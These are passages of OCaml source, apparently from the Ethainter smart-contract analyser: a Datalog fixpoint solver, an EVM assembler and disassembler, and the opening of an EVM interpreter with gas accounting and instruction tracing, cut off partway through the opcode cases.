                     Atomic.incr plan_builds;
                     compile_rule r)
                   rs)
            in
            (rels, crs))
          strata
      in
      let c = { cstrata } in
      p.plan <- Some c;
      c

(** Per-rule adornments, in rule-addition order: for each rule, its
    head relation and — for every positive body literal — the literal's
    relation and the positions that are ground when it is reached
    (i.e. the columns its index is keyed on). Pure introspection: does
    not touch the cached plan or the plan counters. *)
let adornments (p : program) : (string * adornment list) list =
  List.rev_map
    (fun r ->
      let cr = compile_rule r in
      let ads =
        Array.to_list cr.csteps
        |> List.filter_map (function
             | CPos cp ->
                 Some { ad_rel = cp.prel; ad_bound = Array.to_list cp.pindex }
             | _ -> None)
      in
      (fst r.head, ads))
    p.rules

(* ------------------------------------------------------------------ *)
(* Planned evaluation                                                  *)
(* ------------------------------------------------------------------ *)

(** Semi-naive deltas larger than this probe a delta index on the
    literal's adorned positions instead of being scanned. Mutable so
    the test suite can force both paths. *)
let delta_index_threshold = ref 64

let ground_key (env : int array) (srcs : key_src array) : ituple =
  Array.map (function Kconst k -> k | Kslot s -> env.(s)) srcs

(* Match the non-adorned positions of an index bucket tuple (the
   adorned ones are equal by construction of the bucket — and tuple
   arity is static per relation, so there is no per-tuple arity
   check). Writes [Mbind] slots; the caller resets them via [pbinds]
   after each candidate. *)
let match_rest (rest : (int * pm) array) (tup : ituple) (env : int array) :
    bool =
  let n = Array.length rest in
  let rec go i =
    i = n
    ||
    let pos, m = rest.(i) in
    match m with
    | Mbind s ->
        env.(s) <- tup.(pos);
        go (i + 1)
    | Mcheck s -> env.(s) = tup.(pos) && go (i + 1)
    | Mconst k -> tup.(pos) = k && go (i + 1)
  in
  go 0

(* Match every position (scan path). *)
let match_scan (pms : pm array) (tup : ituple) (env : int array) : bool =
  let n = Array.length pms in
  let rec go i =
    i = n
    ||
    match pms.(i) with
    | Mconst k -> tup.(i) = k && go (i + 1)
    | Mbind s ->
        env.(s) <- tup.(i);
        go (i + 1)
    | Mcheck s -> env.(s) = tup.(i) && go (i + 1)
  in
  go 0

let decode_slots (env : int array) (slots : int array) : const list =
  Array.fold_right (fun s acc -> decode_code env.(s) :: acc) slots []

(* Evaluate one compiled rule; call [add] on each derived head tuple.
   [delta_at >= 0] forces step [delta_at] (a [CPos]) to range over its
   relation's entry in [deltas] instead of the full relation
   (semi-naive). *)
let run_crule (db : db) (cr : crule)
    ~(deltas : (string, stored) Hashtbl.t option) ~(delta_at : int)
    (add : string -> ituple -> unit) : unit =
  let env = Array.make cr.cnslots unbound in
  let steps = cr.csteps in
  let nsteps = Array.length steps in
  let rec exec si =
    (* one poll per body-literal step bounds a runaway join; the
       countdown in [Deadline.poll] amortizes the clock read *)
    Ethainter_runtime.Deadline.poll ();
    if si = nsteps then add cr.cname (ground_key env cr.chead)
    else
      match steps.(si) with
      | CFilter { fslots; ffn } ->
          if ffn (decode_slots env fslots) then exec (si + 1)
      | CBind { bslots; bfn; bdst; bfresh } -> (
          match bfn (decode_slots env bslots) with
          | None -> ()
          | Some c ->
              let k = encode_const c in
              if bfresh then begin
                env.(bdst) <- k;
                exec (si + 1);
                env.(bdst) <- unbound
              end
              else if env.(bdst) = k then exec (si + 1))
      | CNeg { nrel; nkey } ->
          let tup = ground_key env nkey in
          if not (TupleSet.mem tup (get_rel db nrel).tuples) then exec (si + 1)
      | CPos cp -> (
          let source =
            if si = delta_at then
              match deltas with
              | Some ds -> Hashtbl.find_opt ds cp.prel
              | None -> None
            else Some (get_rel db cp.prel)
          in
          match source with
          | None -> () (* empty delta: nothing new through this literal *)
          | Some st ->
              let probe_index =
                cp.pmask <> 0
                && (si <> delta_at || st.count >= !delta_index_threshold)
              in
              if probe_index then begin
                let ix =
                  ensure_index st ~mask:cp.pmask ~positions:cp.pindex
                in
                match Hashtbl.find_opt ix.itbl (ground_key env cp.pkey) with
                | None -> ()
                | Some bucket ->
                    (* snapshot semantics: new derivations cons onto
                       the ref without affecting this iteration *)
                    List.iter
                      (fun tup ->
                        if match_rest cp.prest tup env then exec (si + 1);
                        Array.iter (fun s -> env.(s) <- unbound) cp.pbinds)
                      !bucket
              end
              else
                TupleSet.iter
                  (fun tup ->
                    if match_scan cp.pscan tup env then exec (si + 1);
                    Array.iter (fun s -> env.(s) <- unbound) cp.pbinds)
                  st.tuples)
  in
  exec 0

(* Stratified semi-naive fixpoint over compiled rules. Deltas live in
   hashtables probed directly by relation name (no assoc-list walk in
   the inner loop) and are themselves [stored] relations, so large
   deltas get indexes. *)
let solve_planned (p : program) (db : db) : unit =
  let c = compile p in
  List.iter
    (fun (_rels, rules) ->
      let deltas = ref (Hashtbl.create 8) in
      let add_fact name tup =
        let r = get_rel db name in
        if not (TupleSet.mem tup r.tuples) then begin
          stored_add r tup;
          let d =
            match Hashtbl.find_opt !deltas name with
            | Some d -> d
            | None ->
                let d = new_stored () in
                Hashtbl.replace !deltas name d;
                d
          in
          stored_add d tup
        end
      in
      (* naive first round to seed *)
      Array.iter
        (fun cr -> run_crule db cr ~deltas:None ~delta_at:(-1) add_fact)
        rules;
      (* semi-naive iterations *)
      let continue = ref (Hashtbl.length !deltas > 0) in
      while !continue do
        Ethainter_runtime.Deadline.poll ();
        let current = !deltas in
        deltas := Hashtbl.create 8;
        Array.iter
          (fun cr ->
            Array.iteri
              (fun i step ->
                match step with
                | CPos cp -> (
                    match Hashtbl.find_opt current cp.prel with
                    | Some d when d.count > 0 ->
                        run_crule db cr ~deltas:(Some current) ~delta_at:i
                          add_fact
                    | _ -> ())
                | _ -> ())
              cr.csteps)
          rules;
        continue := Hashtbl.length !deltas > 0
      done)
    c.cstrata

(* ------------------------------------------------------------------ *)
(* Reference evaluators (PR 1): naive scans and per-probe adornments   *)
(* ------------------------------------------------------------------ *)

(* These interpret each rule directly — an assoc-list environment,
   bound positions re-derived from the environment at every probe —
   and exist as the differential baseline for the planner and as the
   PR 1 comparison point for the benchmarks. Terms are pre-encoded
   once per solve so both reference evaluators run over the same
   interned tuple stores as the planned path. *)

type lterm = LVar of string | LConst of int

type lliteral =
  | LPos of string * lterm list * int (* arity hoisted out of the probe *)
  | LNeg of string * lterm list
  | LFilter of string list * (const list -> bool)
  | LBind of string * string list * (const list -> const option)

type lrule = { lhead : string * lterm list; lbody : lliteral list }

let lterms ts =
  List.map
    (function Var x -> LVar x | Const c -> LConst (encode_const c))
    ts

let lower_rule (r : rule) : lrule =
  { lhead = (fst r.head, lterms (snd r.head));
    lbody =
      List.map
        (function
          | Pos (n, ts) -> LPos (n, lterms ts, List.length ts)
          | Neg (n, ts) -> LNeg (n, lterms ts)
          | Filter (vs, f) -> LFilter (vs, f)
          | Bind (x, vs, f) -> LBind (x, vs, f))
        r.body }

type env = (string * int) list

let lookup (env : env) x = List.assoc_opt x env

let match_lterm (env : env) (t : lterm) (c : int) : env option =
  match t with
  | LConst k -> if k = c then Some env else None
  | LVar x -> (
      match lookup env x with
      | Some k -> if k = c then Some env else None
      | None -> Some ((x, c) :: env))

(* [arity] is hoisted to the literal (computed once per rule lowering,
   not per candidate tuple). *)
let match_ltuple env (terms : lterm list) (arity : int) (tup : ituple) :
    env option =
  let rec go env ts i =
    match ts with
    | [] -> Some env
    | t :: rest -> (
        match match_lterm env t tup.(i) with
        | Some env' -> go env' rest (i + 1)
        | None -> None)
  in
  if Array.length tup <> arity then None else go env terms 0

let eval_lterm env = function
  | LConst k -> k
  | LVar x -> (
      match lookup env x with
      | Some k -> k
      | None -> fail "unbound variable %s in rule head" x)

(* Positions of a literal's terms that are ground under [env] (a
   constant, or a variable already bound), with their values — the
   per-probe adornment of the PR 1 indexed evaluator. *)
let bound_positions (env : env) (terms : lterm list) : (int * int) list =
  List.mapi (fun i t -> (i, t)) terms
  |> List.filter_map (fun (i, t) ->
         match t with
         | LConst c -> Some (i, c)
         | LVar x -> (
             match lookup env x with Some c -> Some (i, c) | None -> None))

(* Evaluate the body literals left-to-right; call k on each complete
   environment. [delta] optionally forces literal #[delta_at] to range
   over a delta set instead of the full relation (semi-naive). When
   [indexed] is set, a [Pos] literal over the full relation probes a
   hash index on its bound-under-the-current-env positions; with it
   unset this is the naive reference evaluator. *)
let rec eval_body ~(indexed : bool) (db : db)
    (delta : (string * TupleSet.t) option) (delta_at : int option)
    (lits : lliteral list) (idx : int) (env : env) (k : env -> unit) : unit =
  Ethainter_runtime.Deadline.poll ();
  match lits with
  | [] -> k env
  | LFilter (vars, f) :: rest ->
      let vals =
        List.map
          (fun x ->
            match lookup env x with
            | Some c -> decode_code c
            | None -> fail "filter over unbound variable %s" x)
          vars
      in
      if f vals then eval_body ~indexed db delta delta_at rest (idx + 1) env k
  | LBind (x, vars, f) :: rest -> (
      let vals =
        List.map
          (fun y ->
            match lookup env y with
            | Some c -> decode_code c
            | None -> fail "bind over unbound variable %s" y)
          vars
      in
      match f vals with
      | Some c -> (
          let code = encode_const c in
          match lookup env x with
          | Some c' ->
              if code = c' then
                eval_body ~indexed db delta delta_at rest (idx + 1) env k
          | None ->
              eval_body ~indexed db delta delta_at rest (idx + 1)
                ((x, code) :: env) k)
      | None -> ())
  | LNeg (name, terms) :: rest ->
      let rel = (get_rel db name).tuples in
      let ground =
        List.map (fun t -> eval_lterm env t) terms |> Array.of_list
      in
      if not (TupleSet.mem ground rel) then
        eval_body ~indexed db delta delta_at rest (idx + 1) env k
  | LPos (name, terms, arity) :: rest -> (
      let continue env' =
        eval_body ~indexed db delta delta_at rest (idx + 1) env' k
      in
      let scan source =
        TupleSet.iter
          (fun tup ->
            match match_ltuple env terms arity tup with
            | Some env' -> continue env'
            | None -> ())
          source
      in
      match (delta, delta_at) with
      | Some (dname, dset), Some di when di = idx && dname = name ->
          (* reference evaluators keep the simple delta scan *)
          scan dset
      | _ ->
          let s = get_rel db name in
          let bound = if indexed then bound_positions env terms else [] in
          if bound = [] then scan s.tuples
          else begin
            let positions = Array.of_list (List.map fst bound) in
            let mask =
              Array.fold_left (fun m i -> m lor (1 lsl i)) 0 positions
            in
            let key = Array.of_list (List.map snd bound) in
            let ix = ensure_index s ~mask ~positions in
            match Hashtbl.find_opt ix.itbl key with
            | None -> ()
            | Some bucket ->
                (* snapshot: new derivations cons onto the ref without
                   affecting this iteration. Bucket tuples carry the
                   declared arity, so the per-tuple arity check is
                   skipped on the indexed probe. *)
                List.iter
                  (fun tup ->
                    let rec go env ts i =
                      match ts with
                      | [] -> continue env
                      | t :: rest' -> (
                          match match_lterm env t tup.(i) with
                          | Some env' -> go env' rest' (i + 1)
                          | None -> ())
                    in
                    go env terms 0)
                  !bucket
          end)

let head_ituple env (terms : lterm list) : ituple =
  List.map (eval_lterm env) terms |> Array.of_list

(* Stratified semi-naive driver for the reference evaluators. Deltas
   are kept in hashtables and probed directly by relation name. *)
let solve_reference ~(indexed : bool) (p : program) (db : db) : unit =
  let strata = stratify p in
  let in_order = List.rev p.rules in
  List.iter
    (fun stratum_rels ->
      let rules =
        List.filter (fun r -> List.mem (fst r.head) stratum_rels) in_order
        |> List.map lower_rule
      in
      let deltas : (string, TupleSet.t) Hashtbl.t ref =
        ref (Hashtbl.create 8)
      in
      let add_fact name tup =
        let r = get_rel db name in
        if not (TupleSet.mem tup r.tuples) then begin
          stored_add r tup;
          let d =
            match Hashtbl.find_opt !deltas name with
            | Some d -> d
            | None -> TupleSet.empty
          in
          Hashtbl.replace !deltas name (TupleSet.add tup d)
        end
      in
      (* naive first round to seed *)
      List.iter
        (fun rule ->
          eval_body ~indexed db None None rule.lbody 0 [] (fun env ->
              add_fact (fst rule.lhead) (head_ituple env (snd rule.lhead))))
        rules;
      (* semi-naive iterations *)
      let continue = ref (Hashtbl.length !deltas > 0) in
      while !continue do
        Ethainter_runtime.Deadline.poll ();
        let current = !deltas in
        deltas := Hashtbl.create 8;
        List.iter
          (fun rule ->
            List.iteri
              (fun i lit ->
                match lit with
                | LPos (name, _, _) -> (
                    match Hashtbl.find_opt current name with
                    | Some dset when not (TupleSet.is_empty dset) ->
                        eval_body ~indexed db (Some (name, dset)) (Some i)
                          rule.lbody 0 []
                          (fun env ->
                            add_fact (fst rule.lhead)
                              (head_ituple env (snd rule.lhead)))
                    | _ -> ())
                | _ -> ())
              rule.lbody)
          rules;
        continue := Hashtbl.length !deltas > 0
      done)
    strata

(* ------------------------------------------------------------------ *)
(* Entry points                                                        *)
(* ------------------------------------------------------------------ *)

(** Evaluation strategy. [Planned] (the default) compiles each rule
    once per program — slot environments, static adornments, delta
    indexes — and caches the plan on the program across [solve] calls.
    [Indexed] is the PR 1 evaluator (per-probe adornments over an
    assoc-list environment); [Naive] the full-scan reference. *)
type strategy = Naive | Indexed | Planned

(** Run the program over the initial facts; returns the database of
    all derived relations. [~strategy] picks the evaluator (default
    {!Planned}); the legacy [~indexed] flag is kept for the PR 1
    callers: [~indexed:false] is {!Naive} and [~indexed:true]
    {!Indexed}. *)
let solve ?(strategy : strategy option) ?(indexed : bool option)
    (p : program) (facts : (string * tuple list) list) : db =
  let strat =
    match (strategy, indexed) with
    | Some s, _ -> s
    | None, Some true -> Indexed
    | None, Some false -> Naive
    | None, None -> Planned
  in
  let db : db = Hashtbl.create 32 in
  List.iter
    (fun (name, tuples) ->
      (match Hashtbl.find_opt p.relations name with
      | None -> fail "facts for undeclared relation %s" name
      | Some a ->
          List.iter
            (fun t ->
              if Array.length t <> a then
                fail "fact arity mismatch for %s" name)
            tuples);
      let r = get_rel db name in
      List.iter
        (fun t ->
          let it = encode_tuple t in
          if not (TupleSet.mem it r.tuples) then stored_add r it)
        tuples)
    facts;
  (match strat with
  | Planned -> solve_planned p db
  | Indexed -> solve_reference ~indexed:true p db
  | Naive -> solve_reference ~indexed:false p db);
  db

(** All tuples of a relation in the solved database. *)
let relation (db : db) name : tuple list =
  match Hashtbl.find_opt db name with
  | Some s -> List.map decode_tuple (TupleSet.elements s.tuples)
  | None -> []

let mem (db : db) name (tup : tuple) : bool =
  match Hashtbl.find_opt db name with
  | Some s -> TupleSet.mem (encode_tuple tup) s.tuples
  | None -> false

(** Cardinality of a relation — O(1), maintained on insert (not
    materialized through {!relation}). *)
let size (db : db) name =
  match Hashtbl.find_opt db name with Some s -> s.count | None -> 0
