(** Assembler / disassembler for EVM bytecode.

    The assembler consumes a list of symbolic instructions (with labels
    for jump targets) and produces raw bytecode; the disassembler is the
    first stage of the decompilation pipeline. *)

module U = Ethainter_word.Uint256

(** A decoded instruction: program counter, opcode, and (for PUSHes)
    the immediate value. *)
type instr = { pc : int; op : Opcode.t; imm : U.t option }

(** Disassemble raw bytecode into a list of instructions. Unknown bytes
    decode as [INVALID] (matching mainstream disassemblers, which keep
    going so that data sections do not abort decoding). *)
let disassemble (code : string) : instr list =
  let n = String.length code in
  let rec go pc acc =
    if pc >= n then List.rev acc
    else
      let byte = Char.code code.[pc] in
      match Opcode.of_byte byte with
      | None -> go (pc + 1) ({ pc; op = Opcode.INVALID; imm = None } :: acc)
      | Some op ->
          let isz = Opcode.immediate_size op in
          if isz = 0 then go (pc + 1) ({ pc; op; imm = None } :: acc)
          else begin
            (* PUSH immediates past the end of code read as zero bytes
               (yellow-paper behaviour). *)
            let avail = min isz (n - pc - 1) in
            let data = String.sub code (pc + 1) avail in
            let data = data ^ String.make (isz - avail) '\000' in
            let imm = Some (U.of_bytes data) in
            go (pc + 1 + isz) ({ pc; op; imm } :: acc)
          end
  in
  go 0 []

(** Valid JUMPDEST positions: a [JUMPDEST] byte that is *not* inside a
    PUSH immediate. *)
let jumpdests (code : string) : (int, unit) Hashtbl.t =
  let tbl = Hashtbl.create 64 in
  List.iter
    (fun i -> if i.op = Opcode.JUMPDEST then Hashtbl.replace tbl i.pc ())
    (disassemble code);
  tbl

let pp_instr fmt (i : instr) =
  match i.imm with
  | None -> Format.fprintf fmt "%5d: %s" i.pc (Opcode.name i.op)
  | Some v -> Format.fprintf fmt "%5d: %s %s" i.pc (Opcode.name i.op) (U.to_hex v)

let to_asm_string (code : string) : string =
  let buf = Buffer.create 1024 in
  List.iter
    (fun i -> Buffer.add_string buf (Format.asprintf "%a\n" pp_instr i))
    (disassemble code);
  Buffer.contents buf

(* ------------------------------------------------------------------ *)
(* Symbolic assembler                                                  *)
(* ------------------------------------------------------------------ *)

(** Assembly items: plain opcodes, pushes of constants, pushes of label
    addresses (patched after layout), label definitions and raw data. *)
type asm =
  | Op of Opcode.t
  | Push of U.t            (** PUSH of a constant, minimal width *)
  | PushLabel of string    (** PUSH of a label's byte offset (width 2) *)
  | Label of string        (** defines a JUMPDEST at this point *)
  | Raw of string          (** raw bytes (e.g. embedded runtime code) *)

(** Width in bytes of the minimal PUSH for value [v] (at least 1). *)
let push_width (v : U.t) =
  let bits = U.num_bits v in
  max 1 ((bits + 7) / 8)

let item_size = function
  | Op op -> 1 + Opcode.immediate_size op
  | Push v -> 1 + push_width v
  | PushLabel _ -> 3 (* PUSH2 <hi> <lo> *)
  | Label _ -> 1 (* JUMPDEST *)
  | Raw s -> String.length s

exception Asm_error of string

(** Assemble a program. Labels may be used before they are defined. *)
let assemble (items : asm list) : string =
  (* First pass: lay out label offsets. *)
  let offsets = Hashtbl.create 16 in
  let pos = ref 0 in
  List.iter
    (fun it ->
      (match it with
      | Label l ->
          if Hashtbl.mem offsets l then
            raise (Asm_error ("duplicate label " ^ l));
          Hashtbl.replace offsets l !pos
      | _ -> ());
      pos := !pos + item_size it)
    items;
  (* Second pass: emit. *)
  let buf = Buffer.create 256 in
  let emit_byte b = Buffer.add_char buf (Char.chr (b land 0xff)) in
  List.iter
    (fun it ->
      match it with
      | Op op ->
          if Opcode.immediate_size op > 0 then
            raise (Asm_error "Op with immediate: use Push");
          emit_byte (Opcode.to_byte op)
      | Push v ->
          let w = push_width v in
          emit_byte (Opcode.to_byte (Opcode.PUSH w));
          let bytes = U.to_bytes v in
          Buffer.add_string buf (String.sub bytes (32 - w) w)
      | PushLabel l ->
          let off =
            match Hashtbl.find_opt offsets l with
            | Some o -> o
            | None -> raise (Asm_error ("undefined label " ^ l))
          in
          if off > 0xffff then raise (Asm_error "label offset > 2 bytes");
          emit_byte (Opcode.to_byte (Opcode.PUSH 2));
          emit_byte (off lsr 8);
          emit_byte (off land 0xff)
      | Label _ -> emit_byte (Opcode.to_byte Opcode.JUMPDEST)
      | Raw s -> Buffer.add_string buf s)
    items;
  Buffer.contents buf

(** Wrap runtime code in a standard deployment preamble that copies the
    runtime to memory and returns it (what a constructor does). *)
let deployer (runtime : string) : string =
  let len = String.length runtime in
  (* A Label-based preamble would insert a JUMPDEST byte we do not want
     in the copied runtime, so the runtime offset is computed directly.
     Deployment code layout: [prefix][runtime]. prefix length is fixed
     once we know the PUSH widths; iterate to a fixed point (the offset
     value may change the PUSH width). *)
  let rec layout guess =
    let items =
      [ Push (U.of_int len); Push (U.of_int guess); Push U.zero;
        Op Opcode.CODECOPY; Push (U.of_int len); Push U.zero;
        Op Opcode.RETURN ]
    in
    let sz = List.fold_left (fun a it -> a + item_size it) 0 items in
    if sz = guess then assemble items else layout sz
  in
  layout 10 ^ runtime
