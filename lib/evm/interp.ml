(** The EVM interpreter.

    Executes EVM bytecode against a {!State.t}, with full message-call
    semantics ([CALL], [DELEGATECALL], [STATICCALL], [CALLCODE],
    [CREATE]), revert/rollback, gas accounting, and an instruction
    trace. The trace is how Ethainter-Kill confirms an exploit: the
    paper verifies destruction "by analyzing the exact VM instruction
    trace and identifying whether the selfdestruct opcode was
    executed" (§6.1).

    Two engines execute the same semantics:

    - {b Decoded} (the default): runs over the pre-decoded basic-block
      {!Program.t} for the contract — one decode per unique code hash
      process-wide, an array operand stack, and per-block gas
      pre-charging (a block whose static cost fits the remaining gas
      is charged once at entry; any mid-block exit unwinds the
      unexecuted tail via [Program.gas_rest], so observable gas is
      bit-identical to per-instruction charging).
    - {b Bytewise}: the reference per-byte interpreter (decode each
      opcode from the raw string at each step, rebuild the JUMPDEST
      set per call frame, list operand stack). Kept verbatim as the
      differential baseline; the test suite asserts both engines
      produce identical traces, outcomes, gas and effects. *)

module U = Ethainter_word.Uint256

exception Evm_error of string

type log_entry = { log_addr : U.t; topics : U.t list; data : string }

(** One trace record per executed instruction. *)
type trace_entry = {
  t_depth : int;
  t_addr : U.t;   (** executing contract (storage context) *)
  t_pc : int;
  t_op : Opcode.t;
}

type call_kind = Call | DelegateCall | StaticCall | CallCode

(** Chain-observable side effects of an execution, in chronological
    order — what a block-stream consumer (the testnet's block
    observer, the streaming index's invalidation logic) needs without
    re-deriving it from the instruction trace. Effects performed
    inside an {e inner} call that later reverted are not trimmed
    (neither is the trace); a consumer treating each effect as "this
    state {e may} have changed" over-approximates, which is the sound
    direction for cache invalidation. Effects of a reverted or failed
    {e top-level} call are dropped, like logs. *)
type effect =
  | E_sstore of { es_addr : U.t; es_slot : U.t }
      (** storage write: contract [es_addr], slot [es_slot] *)
  | E_create of U.t     (** successful CREATE/CREATE2: new contract *)
  | E_selfdestruct of U.t

type context = {
  state : State.t;
  mutable gas : int;
  origin : U.t;
  gas_price : U.t;
  block_number : U.t;
  timestamp : U.t;
  chain_id : U.t;
  trace : trace_entry list ref;       (** bytewise engine: reversed list *)
  (* The decoded engine records the trace into flat parallel arrays
     instead — zero allocation per executed instruction ([tmeta] packs
     depth and pc into one int; [taddr]/[tops] store shared pointers).
     Both representations reconstruct the identical [trace_entry list]
     in [call_full]. [trace_len] counts entries for either engine. *)
  mutable tmeta : int array;          (** depth lsl 32 lor pc *)
  mutable taddr : U.t array;
  mutable tops : Opcode.t array;
  mutable trace_len : int;
  max_trace : int;
  mutable steps : int;
  max_steps : int;
  logs : log_entry list ref;          (** reversed; newest first *)
  effects : effect list ref;          (** reversed; newest first *)
}

(* Grow the decoded engine's flat trace buffers (amortized doubling,
   capped at [max_trace]). Allocated lazily: the bytewise engine never
   touches them. *)
let grow_trace (ctx : context) =
  let old = Array.length ctx.tmeta in
  let cap = if old = 0 then 64 else min ctx.max_trace (2 * old) in
  let tmeta = Array.make cap 0 in
  let taddr = Array.make cap U.zero in
  let tops = Array.make cap Opcode.STOP in
  Array.blit ctx.tmeta 0 tmeta 0 old;
  Array.blit ctx.taddr 0 taddr 0 old;
  Array.blit ctx.tops 0 tops 0 old;
  ctx.tmeta <- tmeta;
  ctx.taddr <- taddr;
  ctx.tops <- tops

type outcome =
  | Returned of string
  | Reverted of string
  | Failed of string (* out of gas, invalid op, stack error ... *)

(** Which executor runs the bytecode; see the module header. *)
type engine = Decoded | Bytewise

(* Byte-addressed, lazily grown EVM memory. *)
module Memory = struct
  type t = { mutable data : Bytes.t; mutable size : int }

  let create () = { data = Bytes.make 1024 '\000'; size = 0 }

  (* [size] is the MSIZE value: the touched extent rounded up to a
     32-byte word boundary. Capacity must cover that *rounded* size —
     rounding only the size once produced size > capacity (e.g.
     capacity 1024, [ensure 2049] -> capacity 2049 but size 2080),
     and the next growth's [Bytes.blit _ 0 _ 0 m.size] then raised
     [Invalid_argument] while MSIZE reported bytes never allocated. *)
  let ensure m n =
    if n > m.size then begin
      let sz = ((n + 31) / 32) * 32 in
      if sz > Bytes.length m.data then begin
        let cap = max sz (2 * Bytes.length m.data) in
        let d = Bytes.make cap '\000' in
        Bytes.blit m.data 0 d 0 m.size;
        m.data <- d
      end;
      m.size <- sz
    end

  let load_word m off =
    ensure m (off + 32);
    U.of_bytes (Bytes.sub_string m.data off 32)

  let store_word m off v =
    ensure m (off + 32);
    Bytes.blit_string (U.to_bytes v) 0 m.data off 32

  let store_byte m off v =
    ensure m (off + 1);
    Bytes.set m.data off (Char.chr (v land 0xff))

  let load_bytes m off len =
    if len = 0 then ""
    else begin
      ensure m (off + len);
      Bytes.sub_string m.data off len
    end

  let store_bytes m off (s : string) =
    if String.length s > 0 then begin
      ensure m (off + String.length s);
      Bytes.blit_string s 0 m.data off (String.length s)
    end

  let size m = m.size
end

let max_call_depth = 1024

(* Charge gas; raise when exhausted. *)
let charge ctx amount =
  ctx.gas <- ctx.gas - amount;
  if ctx.gas < 0 then raise (Evm_error "out of gas")

let as_offset (v : U.t) : int =
  match U.to_int_opt v with
  | Some i when i <= 0x3FFFFFFF -> i
  | _ -> raise (Evm_error "offset out of range")

let addr_mask = U.sub (U.shift_left U.one 160) U.one
let to_addr v = U.logand v addr_mask

(* ------------------------------------------------------------------ *)
(* Bytewise reference engine: the original per-byte interpreter, kept  *)
(* as the differential baseline. Decodes the opcode from the raw code  *)
(* string at every step, re-reads PUSH immediates, rebuilds the        *)
(* JUMPDEST set per call frame, and charges gas per instruction.       *)
(* ------------------------------------------------------------------ *)

let rec execute_bytewise (ctx : context) ~(depth : int) ~(self : U.t)
    ~(code_addr : U.t) ~(caller : U.t) ~(callvalue : U.t)
    ~(calldata : string) ~(static : bool) : outcome =
  let code = State.code ctx.state code_addr in
  let n = String.length code in
  let valid_dests = Bytecode.jumpdests code in
  let stack : U.t list ref = ref [] in
  let mem = Memory.create () in
  let returndata = ref "" in
  let push v = stack := v :: !stack in
  let pop () =
    match !stack with
    | [] -> raise (Evm_error "stack underflow")
    | v :: rest ->
        stack := rest;
        v
  in
  let pop2 () =
    let a = pop () in
    let b = pop () in
    (a, b)
  in
  let pop3 () =
    let a = pop () in
    let b = pop () in
    let c = pop () in
    (a, b, c)
  in
  let pc = ref 0 in
  let running = ref true in
  let result = ref (Returned "") in
  while !running do
    if !pc >= n then begin
      running := false;
      result := Returned ""
    end
    else begin
      ctx.steps <- ctx.steps + 1;
      if ctx.steps > ctx.max_steps then raise (Evm_error "step limit");
      let byte = Char.code code.[!pc] in
      let op =
        match Opcode.of_byte byte with
        | Some op -> op
        | None -> Opcode.INVALID
      in
      if ctx.trace_len < ctx.max_trace then begin
        ctx.trace :=
          { t_depth = depth; t_addr = self; t_pc = !pc; t_op = op }
          :: !(ctx.trace);
        ctx.trace_len <- ctx.trace_len + 1
      end;
      charge ctx (Opcode.base_gas op);
      let next_pc = ref (!pc + 1 + Opcode.immediate_size op) in
      (match op with
      | STOP ->
          running := false;
          result := Returned ""
      | ADD -> let a, b = pop2 () in push (U.add a b)
      | MUL -> let a, b = pop2 () in push (U.mul a b)
      | SUB -> let a, b = pop2 () in push (U.sub a b)
      | DIV -> let a, b = pop2 () in push (U.div a b)
      | SDIV -> let a, b = pop2 () in push (U.sdiv a b)
      | MOD -> let a, b = pop2 () in push (U.rem a b)
      | SMOD -> let a, b = pop2 () in push (U.smod a b)
      | ADDMOD -> let a, b, m = pop3 () in push (U.addmod a b m)
      | MULMOD -> let a, b, m = pop3 () in push (U.mulmod a b m)
      | EXP -> let a, b = pop2 () in push (U.exp a b)
      | SIGNEXTEND -> let b, x = pop2 () in push (U.signextend b x)
      | LT -> let a, b = pop2 () in push (U.of_bool (U.lt a b))
      | GT -> let a, b = pop2 () in push (U.of_bool (U.gt a b))
      | SLT -> let a, b = pop2 () in push (U.of_bool (U.slt a b))
      | SGT -> let a, b = pop2 () in push (U.of_bool (U.sgt a b))
      | EQ -> let a, b = pop2 () in push (U.of_bool (U.equal a b))
      | ISZERO -> push (U.of_bool (U.is_zero (pop ())))
      | AND -> let a, b = pop2 () in push (U.logand a b)
      | OR -> let a, b = pop2 () in push (U.logor a b)
      | XOR -> let a, b = pop2 () in push (U.logxor a b)
      | NOT -> push (U.lognot (pop ()))
      | BYTE -> let i, x = pop2 () in push (U.byte i x)
      | SHL ->
          let s, v = pop2 () in
          push (if U.fits_int s then U.shift_left v (U.to_int s) else U.zero)
      | SHR ->
          let s, v = pop2 () in
          push (if U.fits_int s then U.shift_right v (U.to_int s) else U.zero)
      | SAR ->
          let s, v = pop2 () in
          push
            (if U.fits_int s then U.shift_right_arith v (U.to_int s)
             else U.shift_right_arith v 256)
      | SHA3 ->
          let off, len = pop2 () in
          let data = Memory.load_bytes mem (as_offset off) (as_offset len) in
          push (Ethainter_crypto.Keccak.hash_word data)
      | ADDRESS -> push self
      | BALANCE -> push (State.balance ctx.state (to_addr (pop ())))
      | ORIGIN -> push ctx.origin
      | CALLER -> push caller
      | CALLVALUE -> push callvalue
      | CALLDATALOAD ->
          let off = pop () in
          let v =
            match U.to_int_opt off with
            | None -> U.zero
            | Some o ->
                let len = String.length calldata in
                if o >= len then U.zero
                else
                  let avail = min 32 (len - o) in
                  let s = String.sub calldata o avail in
                  U.of_bytes (s ^ String.make (32 - avail) '\000')
          in
          push v
      | CALLDATASIZE -> push (U.of_int (String.length calldata))
      | CALLDATACOPY ->
          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let srclen = String.length calldata in
          let src = match U.to_int_opt src with Some s -> s | None -> srclen in
          let chunk =
            if src >= srclen then String.make len '\000'
            else
              let avail = min len (srclen - src) in
              String.sub calldata src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | CODESIZE -> push (U.of_int n)
      | CODECOPY ->
          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let src = match U.to_int_opt src with Some s -> s | None -> n in
          let chunk =
            if src >= n then String.make len '\000'
            else
              let avail = min len (n - src) in
              String.sub code src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | GASPRICE -> push ctx.gas_price
      | EXTCODESIZE ->
          push (U.of_int (String.length (State.code ctx.state (to_addr (pop ())))))
      | EXTCODECOPY ->
          let a = pop () in
          let dst, src, len = pop3 () in
          let ext = State.code ctx.state (to_addr a) in
          let extn = String.length ext in
          let dst = as_offset dst and len = as_offset len in
          let src = match U.to_int_opt src with Some s -> s | None -> extn in
          let chunk =
            if src >= extn then String.make len '\000'
            else
              let avail = min len (extn - src) in
              String.sub ext src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | RETURNDATASIZE -> push (U.of_int (String.length !returndata))
      | RETURNDATACOPY ->
